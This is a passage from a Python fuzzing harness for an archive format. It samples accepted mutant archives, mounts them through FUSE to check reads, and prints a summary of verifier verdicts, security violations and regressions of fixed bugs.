        args.json.write_text(json.dumps(summary, indent=2) + "\n", encoding="utf-8")
        print(f"JSON summary: {args.json}")
    return 1 if violations or regressed else 0


def _verdict_key(line: str) -> str:
    """A verdict line with the path it names replaced, for counting."""
    line = re.sub(r"\brom/\S+|\bsave/\S+|/\S+\.json", "<path>", line)
    line = re.sub(r"\(.*\)\.$", "(...).", line) if "malformed" in line else line
    return line[:110]


def _mount_sample(args: argparse.Namespace, accepted: list[tuple[int, str]], bases: list[Base],
                  scratch: Path) -> list[dict[str, Any]]:
    if not args.mount_sample or not accepted or not os.path.exists("/dev/fuse"):
        return []
    rng = random.Random(args.seed)
    sample = rng.sample(accepted, min(args.mount_sample, len(accepted)))
    by_name = {b.name: b for b in bases}
    out = []
    for index, kept in sorted(sample):
        meta = json.loads((Path(kept) / "trust.json").read_text())
        problems, reads = check_mount(Path(kept) / "mutant.acx", by_name[meta["base"]],
                                      meta["trust"], scratch / "mounts" / str(index))
        out.append({"index": index, "problems": problems, "reads": dict(reads)})
    return out


def _print_summary(summary: dict[str, Any]) -> None:
    print(f"\n{summary['count']} mutants in {summary['fuzz_seconds']} s "
          f"({summary['mutants_per_second']}/s, {summary['workers']} workers); "
          f"total with mounts {summary['seconds']} s")
    print("outcomes:")
    for key, n in summary["outcomes"].items():
        print(f"  {n:6}  {key}")
    print("verdicts of verify --deep:")
    for key, n in list(summary["verdicts"].items())[:25]:
        print(f"  {n:6}  {key}")
    print(f"reads through acxfs cat: {summary['reads']}")
    print(f"mounted {summary['mounted']} accepted mutants, clean: {summary['mount_clean']}; "
          f"reads: {summary['mount_reads']}")
    print(f"violations: {summary['violations_total']}")
    for ident, n in summary["regressed_bug_hits"].items():
        print(f"  {n:6}  match regressed fixed bug {ident}: {summary['regressed_bugs'][ident]}")
    for item in summary["violations"][:10]:
        print(f"  #{item['index']}: {item.get('steps')} -> {item['violations'][:2]}")
    print(f"inconsistencies (not security violations): {summary['inconsistencies_total']}")
    for item in summary["inconsistencies"][:5]:
        print(f"  #{item['index']}: {item['steps']} -> {item['inconsistencies'][:2]}")


if __name__ == "__main__":
    sys.exit(main())
